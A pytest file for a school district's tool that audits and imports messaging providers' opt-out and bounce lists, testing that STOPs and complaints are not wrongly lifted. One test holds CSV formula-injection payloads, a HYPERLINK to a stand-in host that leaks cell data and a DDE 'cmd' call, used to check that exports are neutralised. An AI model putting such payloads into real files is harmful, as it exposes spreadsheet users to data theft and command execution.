"""The providers' own lists, attacked: each test says what a district would notice, and fails as long as it
does."""

import csv
import io
import json
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any, ClassVar

import pytest
from moto import mock_aws
from typer.testing import CliRunner

from functions.upstream.app import handler
from reachable import upstream
from reachable.flows import apply, take_over
from reachable.model.credential import Credential, CredentialKind
from reachable.model.delivery_event import Cause, Channel, Kind
from reachable.model.errors import ListUnclear, PutOff, ReachableError
from reachable.model.status import AT_ONCE, LOWEST_HEX, Lift, Lifting, mark
from reachable.model.upstream import Account, ListReason
from reachable.rules import status as status_rules
from reachable.rules.event import UNKNOWN, decide, received
from reachable.store import dynamodb
from reachable.store.credentials import history, registers
from reachable.upstream import _times
from reachable.web.models.upstream import ReportOut
from tests.builders import clock, delivery_event, text_event
from tests.functions.clocks import later
from tests.functions.conftest import at_nine
from tests.functions.district import ADA, Context
from tests.functions.lists import Lists
from tests.functions.test_reactions import (
    lifted,
    lists,
    number_row,
    reacted,
    reset,
    reset_phone,
    stop,
    told,
)
from tests.unit.upstream.conftest import _served, account
from tests.unit.upstream.conftest import lists as unit_lists
from tools import upstream as tool
from tools.__main__ import main
from tools.stand_ins.stand_in import Ordered, StandIn
from tools.steps import Failure

__all__ = ["_served", "account", "at_nine", "lists", "unit_lists"]

pytestmark = pytest.mark.usefixtures("at_nine")

EMAIL = ADA.credentials[CredentialKind.EMAIL]
PHONE = ADA.credentials[CredentialKind.PHONE]
SIX_MB = 6 * 1024 * 1024
"""What Lambda takes, and gives, of a synchronous invoke."""
DEAD = "550 5.1.1 The email account that you tried to reach does not exist"

district_there = pytest.mark.usefixtures("at_nine")


class _Patient(Context):
    def get_remaining_time_in_millis(self) -> int:
        return 900_000


def ask(context: Any = None, **wish: Any) -> dict[str, Any]:
    told_ = {"as": "maria@ops", "provider": "sendgrid"} | wish
    patient: Any = _Patient()
    return handler(told_, context or patient)


def blocks(address: str, kind: CredentialKind = CredentialKind.EMAIL) -> list[str]:
    credential = Credential(kind, address)
    return [str(one.register) for one in status_rules.blocks(registers.statuses([credential])[credential])]


def staff_reset(credential: Credential, at: str = "09:00", by: Lift = Lift.STAFF) -> None:
    registers.move(credential, Lifting(by, mark(clock(at), LOWEST_HEX)))


def row(email: str, list_: str = "bounces", **changes: Any) -> dict[str, Any]:
    return {"list": list_, "email": email, "created": 1700000000, "reason": DEAD} | changes


# 1. What is taken for the person's START


@district_there
def test_what_we_take_off_ourselves_is_no_start(lists: Lists) -> None:
    """A parent texted STOP (self-managed opt-outs: the entry is ours, EndUserOptedOut false); staff reset the
    dead voice line, we take the entry off, and texts to that parent begin again: nobody texted START."""
    lists.set_up("aws_sms")
    lists["aws_sms"].rows = [number_row(EndUserOptedOut=False)]
    stop()
    apply.events(
        [text_event(channel=Channel.VOICE, kind=Kind.FAILED, event_id="call", provider="twilio")],
        datetime.now(UTC),
    )
    assert reset_phone()["still_blocked"] == ["sms"]
    later(minutes=1)
    reacted(PHONE)
    assert Lift.START not in lifted(PHONE)
    assert "opt_out@sms" in blocks(PHONE.address, CredentialKind.PHONE)


@district_there
def test_a_404_of_a_sinch_app_that_is_gone_is_no_start(lists: Lists) -> None:
    """IT puts a new app id into the Sinch settings, and all who texted STOP are texted again after the next
    reset: a 404 stands for "nobody is listed", and that for START."""
    lists.set_up("sinch")
    lists["sinch"].rows = [{"list": "OPT_OUT_ALL", "identity": PHONE.address.lstrip("+")}]
    stop("sinch")
    assert reset_phone()["outcome"] == "refused"
    lists.set_up("sinch", app="app-2")
    later(minutes=10)
    reset_phone()
    assert blocks(PHONE.address, CredentialKind.PHONE) == ["opt_out@sms"]


@district_there
@pytest.mark.parametrize(
    ("provider", "rows_"),
    [
        (
            "telnyx",
            [
                {
                    "from": "+12025550100",
                    "to": "+12025550123",
                    "keyword": "STOP",
                    "messaging_profile_id": "p",
                    "created_at": "2026-09-14 08:59:00.000000+00:00",
                }
            ],
        ),
        (
            "messagebird",
            [
                {
                    "id": "1",
                    "destination": "+12025550123",
                    "originator": "+12025550100",
                    "reason": "keyword_stop",
                    "effective_at": "2026-09-14T08:59:00Z",
                }
            ],
        ),
    ],
)
def test_a_200_with_an_error_inside_is_no_start(
    lists: Lists, provider: str, rows_: list[dict[str, Any]]
) -> None:
    """On a day when the provider answers 200 with an error, whoever had texted STOP is texted again."""
    assert PHONE.address == "+12025550123"
    lists.set_up(provider)
    lists[provider].rows = rows_
    stop(provider)
    assert reset_phone()["outcome"] == "refused"
    later(minutes=10)
    lists[provider].ordered = [Ordered(200, {"errors": [{"code": "internal", "title": "try later"}]})]
    reset_phone()
    assert blocks(PHONE.address, CredentialKind.PHONE) == ["opt_out@sms"]


@district_there
def test_a_start_to_one_account_does_not_undo_the_stop_to_the_other(lists: Lists) -> None:
    """A parent stopped the texts of both schools and texted START to one: now both text them, though the
    other's list still has the STOP."""
    entry = {
        "from": "+12025550100",
        "to": PHONE.address,
        "keyword": "STOP",
        "messaging_profile_id": "high",
        "created_at": "2026-09-14 08:59:00.000000+00:00",
    }
    lists.set_up("telnyx", "default", profiles=["high"])
    lists.set_up("telnyx", "middle", profiles=["middle"])
    lists["telnyx"].rows = [entry, entry | {"messaging_profile_id": "middle"}]
    stop("telnyx")
    assert reset_phone()["outcome"] == "refused"
    lists["telnyx"].rows = [entry | {"messaging_profile_id": "middle"}]
    later(minutes=10)
    reset_phone()
    assert blocks(PHONE.address, CredentialKind.PHONE) == ["opt_out@sms"]


@district_there
def test_other_lists_in_the_settings_are_no_start(lists: Lists) -> None:
    """IT names other opt-out lists (or another region) for End User Messaging: the next reset finds nobody
    there, and texts those who said STOP again."""
    lists.set_up("aws_sms")
    lists["aws_sms"].rows = [number_row(), number_row(OptOutListName="School", OptedOutNumber="+12025550199")]
    stop()
    assert reset_phone()["outcome"] == "refused"
    lists.set_up("aws_sms", lists=["School"])
    later(minutes=10)
    reset_phone()
    assert blocks(PHONE.address, CredentialKind.PHONE) == ["opt_out@sms"]


@district_there
def test_while_a_stop_is_in_force_nothing_is_taken_off_a_list(lists: Lists) -> None:
    """A parent's STOP (told by the old provider) was put on the new one's list by hand; resetting the dead
    voice line takes it off there, though the STOP stands."""
    lists.set_up("aws_sms")
    lists["aws_sms"].rows = [number_row(EndUserOptedOut=False)]
    stop("twilio")
    apply.events([text_event(channel=Channel.VOICE, kind=Kind.FAILED, event_id="call")], datetime.now(UTC))
    reset_phone()
    reacted(PHONE)
    assert lists["aws_sms"].rows


@district_there
def test_one_accounts_release_does_not_lift_what_another_one_refuses(lists: Lists) -> None:
    """The north school's account still lists it and has refused a message since the reset; the south one's
    "not listed" opens it, so staff see good and the next mail fails again."""
    lists.set_up("sendgrid")
    lists.set_up("sendgrid", "north")
    apply_to("north")
    staff_reset(Credential(CredentialKind.EMAIL, "ben@example.org"), "09:00:30")
    later(minutes=5)
    apply_to("north", cause=Cause.PROVIDER_SUPPRESSED, sent_at=clock("09:02"), event_id="2")
    # North does not answer; south (default, asked first) does not list it.
    nobody = [Ordered(200, []), Ordered(200, []), Ordered(200, []), Ordered(200, {})]
    lists["sendgrid"].ordered = [*nobody, Ordered(503)]
    reacted(Credential(CredentialKind.EMAIL, "ben@example.org"))
    assert blocks("ben@example.org") == ["suppressed@email"]


# 2. "Released" that is not


@district_there
def test_an_old_complaint_at_brevo_is_not_called_released(lists: Lists) -> None:
    """Brevo refuses a message since a complaint of two years ago; staff press reset, the profile says
    "released", and the next message is refused again, round and round."""
    lists.set_up("brevo")
    lists["brevo"].rows = [
        {
            "email": "ada@example.org",
            "senderEmail": "o@school.example",
            "blockedAt": "2024-03-01T08:00:00Z",
            "reason": {"code": "contactFlaggedAsSpam", "message": "x"},
        }
    ]
    apply.events(
        [delivery_event(provider="brevo", cause=Cause.PROVIDER_SUPPRESSED, sent_at=clock("08:50"))],
        datetime.now(UTC),
    )
    reset()
    later(minutes=1)
    reacted()
    assert lists["brevo"].rows
    assert [state for _, state, _ in told()] != ["released"]


@district_there
def test_an_old_stop_at_telnyx_is_not_called_released(lists: Lists) -> None:
    """Texts are refused since a STOP of last year; staff press reset with consent, the profile says
    "released", and texts are refused as before."""
    lists.set_up("telnyx")
    lists["telnyx"].rows = [
        {
            "from": "+12025550100",
            "to": PHONE.address,
            "keyword": "STOP",
            "messaging_profile_id": "p",
            "created_at": "2025-09-01 08:00:00.000000+00:00",
        }
    ]
    apply.events(
        [text_event(provider="telnyx", kind=Kind.FAILED, cause=Cause.PROVIDER_SUPPRESSED)], datetime.now(UTC)
    )
    reset_phone()
    later(minutes=1)
    reacted(PHONE)
    assert [state for _, state, _ in told(PHONE)] != ["released"]


@pytest.mark.parametrize(
    ("provider", "body"),
    [
        ("sendgrid", [{"created": 1700000000, "reason": DEAD, "status": "5.1.1"}]),
        ("sparkpost", {"results": [{"type": "transactional", "source": "Bounce Rule"}]}),
    ],
)
def test_an_entry_that_names_nobody_is_not_gone(
    unit_lists: dict[str, StandIn], account: Callable[..., Account], provider: str, body: object
) -> None:
    """The answer about one address leaves its name out: nothing is removed, and "released" is said."""
    of = account(provider)
    unit_lists[provider].ordered = [Ordered(200, body)]
    try:
        found = [one for one in upstream.look(of, "ada@example.org") if one.reason is ListReason.BOUNCE]
    except ListUnclear:
        return
    asked = len(unit_lists[provider].called)
    kept = upstream.remove(of, found)
    assert len(unit_lists[provider].called) > asked or None not in kept


@pytest.mark.parametrize("body", [{"errors": [{"message": "internal"}]}, [], "oops", None])
def test_sendgrids_200_with_an_error_is_not_free(
    unit_lists: dict[str, StandIn], account: Callable[..., Account], body: object
) -> None:
    """Who unsubscribed from everything at SendGrid is shown as released, since its answer was an error."""
    of = account("sendgrid")
    unit_lists["sendgrid"].rows = [row("ada@example.org", "unsubscribes")]
    unit_lists["sendgrid"].ordered = [
        Ordered(200, []),
        Ordered(200, []),
        Ordered(200, []),
        Ordered(200, body),
    ]
    with pytest.raises((ListUnclear, PutOff)):
        upstream.look(of, "ada@example.org")


@pytest.mark.parametrize(
    ("provider", "body"),
    [("messagebird", {"error": "x"}), ("messagebird", None), ("sendgrid", None), ("telnyx", None)],
)
def test_an_answer_without_its_list_is_not_free(
    unit_lists: dict[str, StandIn], account: Callable[..., Account], provider: str, body: object
) -> None:
    """A hiccup at the provider (200 and nothing in it) reads as "not on the list"."""
    of = account(provider)
    unit_lists[provider].ordered = [Ordered(200, body)]
    with pytest.raises((ListUnclear, PutOff)):
        upstream.look(of, "+12025550123" if provider != "sendgrid" else "ada@example.org")


# 3. More removed than named


def test_brevo_does_not_free_another_persons_address(
    unit_lists: dict[str, StandIn], account: Callable[..., Account]
) -> None:
    """Staff reset strasse@..., and straße@..., who is somebody else, comes off Brevo's list, too."""
    of = account("brevo")
    entry = {
        "senderEmail": "o@school.example",
        "blockedAt": "2023-11-14T08:00:00Z",
        "reason": {"code": "hardBounce", "message": "x"},
    }
    unit_lists["brevo"].rows = [
        entry | {"email": "straße@example.org"},
        entry | {"email": "strasse@example.org"},
    ]
    upstream.remove(of, upstream.look(of, "strasse@example.org", [datetime(2023, 11, 14, tzinfo=UTC)]))
    assert [one["email"] for one in unit_lists["brevo"].rows] == ["straße@example.org"]


def test_ses_does_not_free_another_persons_address(
    unit_lists: dict[str, StandIn], account: Callable[..., Account]
) -> None:
    """The same at SES of addresses with a slash, for which the whole list is read."""
    of = account("ses")
    unit_lists["ses"].rows = [
        {"EmailAddress": "a/straße@example.org", "Reason": "BOUNCE", "LastUpdateTime": 1700000000}
    ]
    assert upstream.look(of, "a/strasse@example.org") == []


@pytest.mark.parametrize(
    ("provider", "body"),
    [
        ("sendgrid", [{"email": "ben@example.org", "created": 1700000000, "reason": DEAD}]),
        (
            "sparkpost",
            {"results": [{"recipient": "ben@example.org", "type": "transactional", "source": "Bounce Rule"}]},
        ),
        (
            "resend",
            {"object": "suppression", "id": "1", "email": "ben@example.org", "origin": "bounce"},
        ),
        ("mailgun", {"address": "ben@example.org", "code": "550", "error": DEAD}),
    ],
)
def test_an_answer_about_somebody_else_frees_nobody_else(
    unit_lists: dict[str, StandIn], account: Callable[..., Account], provider: str, body: object
) -> None:
    """A lookup that answers with another's entry (a wildcard, a mix-up): that other is taken off unasked;
    postmark, mandrill, brevo, messagebird compare the address, these do not."""
    of = account(provider)
    unit_lists[provider].ordered = [Ordered(200, body)]
    try:
        found = upstream.look(of, "ada@example.org")
    except (ListUnclear, PutOff):
        return
    assert [one.address for one in found] == []


# 4. Taken over


@district_there
@pytest.mark.parametrize("written", ["(202) 555-0123", "202-555-0123", "2025550123"])
def test_a_number_as_a_school_writes_it_closes_that_number(lists: Lists, written: str) -> None:
    """A file of STOPs with numbers as people write them here: each closes a number in Egypt (+20 ...), says
    "taken", and the parents who said STOP are texted."""
    answer = ask(act="take", provider="twilio", csv=f'phone,reason\n"{written}",STOP\n', dry_run=False)
    closed = blocks("+12025550123", CredentialKind.PHONE)
    assert closed == ["opt_out@sms"] or answer["unreadable"] == [written]


def test_what_list_prints_is_read_as_it_was() -> None:
    """The same by columns: since, until and words of our own CSV are columns of no name."""
    text = (
        "address,reason,since,until,words,place\n"
        'ada@example.org,bounce,2023-11-14T22:13:20Z,2023-11-21T22:13:20Z,"550 5.1.1 no such user",bounces\n'
    )
    [listing] = upstream.of_csv(text)
    assert (listing.since, listing.until, listing.words) == (
        datetime(2023, 11, 14, 22, 13, 20, tzinfo=UTC),
        datetime(2023, 11, 21, 22, 13, 20, tzinfo=UTC),
        "550 5.1.1 no such user",
    )


@pytest.mark.parametrize("reason", [*ListReason])
def test_each_reason_that_list_prints_can_be_taken(reason: ListReason) -> None:
    """`list aws_sns_sms > f; take aws_sns_sms f` is refused: our own words "untold" and "provider" are
    unknown; with --reason bounce they become bounces."""
    try:
        [listing] = upstream.of_csv(f"address,reason\n+12025550123,{reason}\n")
    except ReachableError as refused:
        raise AssertionError(refused) from refused
    assert listing.reason is reason


@district_there
@pytest.mark.parametrize("date", ["", "11/14/2023 10:13 PM", "2023-11-14 22:13:20 UTC", "Nov 14, 2023"])
def test_an_entry_whose_date_cannot_be_read_undoes_no_reset(lists: Lists, date: str) -> None:
    """A file whose dates we cannot read (or that has none), taken over after staff reset: "changes nothing"
    says the page, but all these addresses are closed again, from now."""
    apply.events([delivery_event(provider="mandrill")], clock("08:00"))
    staff_reset(EMAIL, "08:30")
    text = f'email,reason,created_at\nada@example.org,bounce,"{date}"\n'
    answer = ask(act="take", provider="mandrill", csv=text, dry_run=False)
    assert answer["counts"]["reset_here"] == 1
    assert blocks("ada@example.org") == []


@district_there
def test_an_undated_complaint_does_not_overrule_a_newer_consent(lists: Lists) -> None:
    """A parent who complained in 2024 and asked for mails again last week is closed by the old list."""
    apply.events(
        [delivery_event(kind=Kind.COMPLAINED, cause=Cause.COMPLAINT, permanence=None, provider="mandrill")],
        clock("08:00"),
    )
    staff_reset(EMAIL, "08:30", Lift.CONSENT)
    ask(act="take", provider="mandrill", csv="email,reason\nada@example.org,spam\n", dry_run=False)
    assert blocks("ada@example.org") == []


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        # SparkPost: recipient, type, source; upstream.md section 5.
        (
            "recipient,type,source,description\nada@example.org,non_transactional,Spam Complaint,x\n",
            ListReason.COMPLAINT,
        ),
        # Postmark's dump: the origin Recipient is an unsubscribe.
        (
            (
                "EmailAddress,SuppressionReason,Origin,CreatedAt\n"
                "ada@example.org,ManualSuppression,Recipient,2023-11-14T22:13:20Z\n"
            ),
            ListReason.UNSUBSCRIBED,
        ),
        ("email,list,reason\nada@example.org,newsletter,spam\n", ListReason.COMPLAINT),
        ("email,reason\nada@example.org,Complained\n", ListReason.COMPLAINT),
        ("email,reason\nada@example.org,Spam Complaints\n", ListReason.COMPLAINT),
        ("email,reason\nada@example.org,Group Unsubscribe\n", ListReason.UNSUBSCRIBED),
    ],
)
def test_a_persons_wish_in_a_file_is_never_taken_for_a_bounce(text: str, reason: ListReason) -> None:
    """With --reason bounce (meant for those that tell none) complaints and unsubscribes whose word or column
    is not known become bounces without a word: staff then open them with no consent."""
    try:
        [listing] = upstream.of_csv(text, ListReason.BOUNCE)
    except ReachableError:
        return  # refused: fine, too
    assert listing.reason is reason


def test_telnyxs_file_closes_the_persons_number_and_not_ours() -> None:
    """Telnyx's columns are from (ours) and to (theirs): our own number is closed, and none of the people."""
    text = (
        "from,to,keyword,messaging_profile_id,created_at\n"
        "+12025550100,+12025550123,STOP,p,2023-11-14T22:13:20Z\n"
    )
    try:
        [listing] = upstream.of_csv(text, ListReason.OPT_OUT)
    except ReachableError:
        return
    assert listing.address == "+12025550123"


@district_there
def test_an_unsubscribe_of_a_number_can_be_undone_by_consent(lists: Lists) -> None:
    """--reason unsubscribed of numbers (by word of mouth, at the office) becomes a STOP: no consent ever
    opens it, and START to a provider that never had a STOP does nothing."""
    ask(act="take", provider="twilio", csv="phone,reason\n+12025550123,unsubscribed\n", dry_run=False)
    assert blocks("+12025550123", CredentialKind.PHONE) == ["unsubscribed@sms"]


@pytest.mark.parametrize("told_", ["20231114", "45244.5"])
def test_a_date_without_signs_is_not_1970(told_: str) -> None:
    """20231114, or Excel's 45244.5, is read as an hour of 1970: "closed since 1970", older than any reset."""
    found = _times.read(told_)
    assert found is None or found.year == 2023


@district_there
def test_one_broken_letter_does_not_stop_a_whole_list(lists: Lists) -> None:
    """One entry's words end within an emoji (a lone surrogate, as JavaScript cuts): list, compare and take of
    the whole list fail with a traceback, for ever."""
    lists.set_up("sendgrid")
    lists["sendgrid"].rows = [row("ada@example.org", reason="mailbox full \ud83d"), row("ben@example.org")]
    for act in ("list", "compare", "take"):
        answer = ask(act=act)
        # As the runtime of Python 3.12 and 3.13 does (awslambdaric, lambda_runtime_marshaller.py).
        json.dumps(answer, ensure_ascii=False).encode()


@pytest.mark.parametrize(
    "text",
    [
        "email,reason\rada@example.org,bounce\r",
        'email,reason,detail\nada@example.org,bounce,"' + "x" * 140_000 + '"\n',
    ],
)
@district_there
def test_a_file_that_cannot_be_read_is_refused_in_words(lists: Lists, text: str) -> None:
    """A file of an old Mac's line ends, or with a long cell: a traceback in place of a sentence."""
    answer = ask(act="take", csv=text)
    assert "refused" in answer or answer["entries"] == 1


@district_there
def test_a_quote_too_many_swallows_no_lines(lists: Lists) -> None:
    """One stray quotation mark in line 2, and all entries behind it are not taken, without a word."""
    lines = "".join(f"a{i}@example.org,bounce\n" for i in range(50))
    answer = ask(act="take", csv=f'email\n"ada@example.org\n{lines}', reason="bounce")
    assert "refused" in answer or answer["entries"] >= 51


# 5. Large


@district_there
def test_postmarks_whole_stream_fits_an_answer(lists: Lists) -> None:
    """`./dev upstream list postmark` of a district with 40,000 entries fails each time: a page is the whole
    stream, and its answer is larger than Lambda's 6 MB."""
    lists.set_up("postmark")
    lists["postmark"].rows = [
        {
            "stream": "outbound",
            "EmailAddress": f"parent.number{i}@lincoln-unified.example.org",
            "SuppressionReason": "HardBounce",
            "Origin": "Recipient",
            "CreatedAt": "2026-09-01T10:13:20-04:00",
        }
        for i in range(40_000)
    ]
    assert len(json.dumps(ask(act="list", provider="postmark"))) < SIX_MB


@district_there
def test_a_report_fits_an_answer_whatever_the_words(lists: Lists) -> None:
    """5,000 entries with long bounce texts (Outlook's have 1,000 letters): all is written, then the answer is
    too large, so nobody learns what was done nor where to go on."""
    words = "550 5.7.1 " + "Your message couldn't be delivered to the recipient. " * 23
    text = "email,reason,detail\n" + "".join(
        f'a{i}@example.org,bounce,"{words}"\n' for i in range(tool.LINES_AT_ONCE)
    )
    # Beside the handler, since this wish would be too large, too: of a provider's own list there is no such
    # bound.
    report = take_over.take(
        Account("mandrill", settings={}),
        "US",
        "maria",
        datetime.now(UTC),
        lambda: True,
        listings=upstream.of_csv(text),
    )
    assert len(json.dumps(ReportOut.of(report, dry_run=True).model_dump(mode="json"))) < SIX_MB


class _Running(Context):
    """Its time goes by with what is asked of the table."""

    def get_remaining_time_in_millis(self) -> int:
        return 900_000 - 400 * len(_Running.queries)

    queries: ClassVar[list[Any]] = []


@district_there
def test_the_time_is_looked_at_within_a_page(lists: Lists) -> None:
    """Postmark's stream is one page: of a large one the function is ended at 15 minutes, without an answer
    or a cursor, and each new try begins at the beginning."""
    lists.set_up("postmark")
    lists["postmark"].rows = [
        {
            "stream": "outbound",
            "EmailAddress": f"a{i}@example.org",
            "SuppressionReason": "HardBounce",
            "Origin": "Recipient",
            "CreatedAt": "2026-09-01T10:13:20-04:00",
        }
        for i in range(2_500)
    ]
    _Running.queries = []
    dynamodb.client().meta.events.register("before-call.dynamodb.Query", _count)
    context: Any = _Running()
    ask(context, act="take", provider="postmark")
    assert context.get_remaining_time_in_millis() > 0


def _count(**_: Any) -> None:
    _Running.queries.append(1)


# 6. Compared


@district_there
def test_an_account_is_not_blamed_for_what_another_one_told(lists: Lists) -> None:
    """compare --account default lists as only_here all that the other school's account closed, which is on
    that account's list as it should be."""
    lists.set_up("sendgrid")
    apply_to("north")
    assert ask(act="compare")["counts"]["only_here"] == 0


def apply_to(account_: str, **changes: Any) -> None:
    told_: dict[str, Any] = {"provider": "sendgrid", "address": "ben@example.org"} | changes
    effect = decide(received(delivery_event(**told_), account_, datetime.now(UTC)), UNKNOWN, AT_ONCE)
    assert effect.history is not None
    item = history.record(effect.credential, effect.history)
    change = status_rules.change_of(item)
    assert change is not None
    registers.move(effect.credential, change)


@district_there
def test_a_list_that_is_cut_off_is_not_compared_as_if_it_were_whole(lists: Lists) -> None:
    """Mandrill shows 1,000 entries and no more: compare says of the others that they are not on its list, and
    take says nothing of those that it did not see."""
    lists.set_up("mandrill")
    lists["mandrill"].rows = [
        {
            "email": f"a{i:04}@example.org",
            "reason": "hard-bounce",
            "detail": DEAD,
            "created_at": "2026-09-13 22:13:20",
            "last_event_at": "2026-09-13 22:13:20",
            "expires_at": "2026-09-21 22:13:20",
            "expired": False,
            "subaccount": None,
        }
        for i in range(1_001)
    ]
    apply.events([delivery_event(provider="mandrill", address="a1000@example.org")], clock("09:00"))
    answer = ask(act="compare", provider="mandrill")
    assert "refused" in answer or answer["counts"]["only_here"] == 0


@district_there
def test_an_address_on_two_lists_is_one_address(lists: Lists) -> None:
    """The numbers are headed "addresses", but an address that bounced and complained counts, and is named,
    twice."""
    lists.set_up("sendgrid")
    lists["sendgrid"].rows = [row("ben@example.org"), row("ben@example.org", "spam_reports")]
    assert ask(act="compare")["not_held"] == ["ben@example.org"]


# 7. Audit and private data


@district_there
def test_whoever_looks_at_a_list_by_a_dry_run_stands_in_the_audit(lists: Lists) -> None:
    """docs/releases.md: whoever looks at a list stands in the audit. A dry run of take shows the whole list
    and what closes each address here (complaint, STOP), of any addresses that one types, and leaves no
    trace."""
    apply.events(
        [delivery_event(kind=Kind.COMPLAINED, cause=Cause.COMPLAINT, permanence=None)], clock("08:00")
    )
    answer = ask(act="take", csv="email,reason\nada@example.org,bounce\nben@example.org,bounce\n")
    assert answer["counts"]["same"] == 1  # it told that ada is closed
    assert dynamodb.client().scan(TableName="audit")["Items"]


# 8. The tool


class _Asked:
    """The function ``upstream`` as the tool sees it: what it was asked."""

    wishes: ClassVar[list[dict[str, Any]]] = []
    answers: ClassVar[list[dict[str, Any]]] = []


@pytest.fixture
def tool_asks(monkeypatch: pytest.MonkeyPatch) -> type[_Asked]:
    _Asked.wishes, _Asked.answers = [], []

    def init(self: Any, *_: str) -> None:
        pass

    def once(self: Any, wish: dict[str, Any]) -> dict[str, Any]:
        _Asked.wishes.append(dict(wish))
        if not _Asked.answers:
            raise Failure("The provider did not answer (503). Try again later.", "See docs/releases.md.")
        return _Asked.answers.pop(0)

    monkeypatch.setattr(tool._Function, "__init__", init)
    monkeypatch.setattr(tool._Function, "once", once)
    return _Asked


def _listed(**changes: Any) -> dict[str, Any]:
    item = {
        "address": "a@x.org",
        "reason": "bounce",
        "since": None,
        "until": None,
        "words": None,
        "place": None,
    }
    return {"items": [item | changes], "next_cursor": None}


@pytest.mark.parametrize(
    "changes",
    [
        {"words": '=HYPERLINK("https://evil.example/?"&A1,"550 details")'},
        {"address": "=cmd|'/c calc'!a1@example.org"},
    ],
)
def test_what_list_prints_is_calculated_by_no_spreadsheet(tool_asks: Any, changes: dict[str, Any]) -> None:
    """A mail server's own words (anybody's) run as a formula when ops open listed.csv; words/_sheets.py keeps
    all other CSVs of the product from that."""
    tool_asks.answers = [_listed(**changes)]
    out = CliRunner().invoke(tool.upstream, ["list", "sendgrid"])
    [_, line] = csv.reader(io.StringIO(out.stdout))
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line)


def test_a_file_is_not_cut_within_a_quoted_field(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """A bounce text of two lines at the 5,000th line: that entry loses its reason and date, and a line of its
    text becomes an "address"."""
    monkeypatch.setattr(tool, "LINES_AT_ONCE", 2)
    file = tmp_path / "listed.csv"
    file.write_text(
        "email,detail,reason,created_at\n"
        "ada@example.org,ok,bounce,2023-11-14T22:13:20Z\n"
        'ben@example.org,"550-5.1.1 no such user\n550 5.1.1 try again",spam,2023-11-14T22:13:20Z\n'
    )
    found = [
        (one.address, one.reason, one.since is not None)
        for part in tool._parts(file)
        for one in upstream.of_csv(part, ListReason.BOUNCE)
    ]
    assert found == [
        ("ada@example.org", ListReason.BOUNCE, True),
        ("ben@example.org", ListReason.COMPLAINT, True),
    ]


def test_a_letter_that_python_takes_for_a_line_end_is_none(
    tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A form feed or U+2028 in a bounce text does not end a line of CSV, but here a part may end there."""
    monkeypatch.setattr(tool, "LINES_AT_ONCE", 1)
    file = tmp_path / "listed.csv"
    file.write_text("email,detail,reason\nben@example.org,no\u2028body,spam\n", encoding="utf-8")
    found = [one.address for part in tool._parts(file) for one in upstream.of_csv(part, ListReason.BOUNCE)]
    assert found == ["ben@example.org"]


def test_a_part_of_a_file_fits_an_invoke(tmp_path: Any) -> None:
    """SendGrid's bounces have texts of 1,000 letters and more: a part of 5,000 lines is refused by Lambda
    (6 MB), and nothing can be taken from that file."""
    file = tmp_path / "listed.csv"
    words = "550 5.7.1 " + "Ihre Nachricht konnte nicht zugestellt werden, größer als möglich. " * 18
    file.write_text("email,reason,detail\n" + f'ada@example.org,bounce,"{words}"\n' * 5_000)
    assert max(len(json.dumps({"csv": part}).encode()) for part in tool._parts(file)) < SIX_MB


def test_an_answer_that_goes_round_ends(tool_asks: Any) -> None:
    """A provider whose cursor does not move: `./dev upstream list` prints the same page for ever."""
    tool_asks.answers = [_listed() | {"next_cursor": "here"} for _ in range(50)] + [_listed()]
    CliRunner().invoke(tool.upstream, ["list", "sendgrid"])
    assert len(tool_asks.wishes) < 50


@mock_aws
def test_a_deploy_that_is_not_there_is_not_called_the_local_aws(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A misspelt --stage on AWS: "The local AWS: ... ./dev down starts afresh"."""
    monkeypatch.setattr(
        sys, "argv", ["./dev", "upstream", "list", "ses", "--stage", "prd", "--region", "us-east-1"]
    )
    with pytest.raises(SystemExit) as ended:
        sys.exit(main())
    assert ended.value.code == 1
    assert "local AWS" not in capsys.readouterr().err
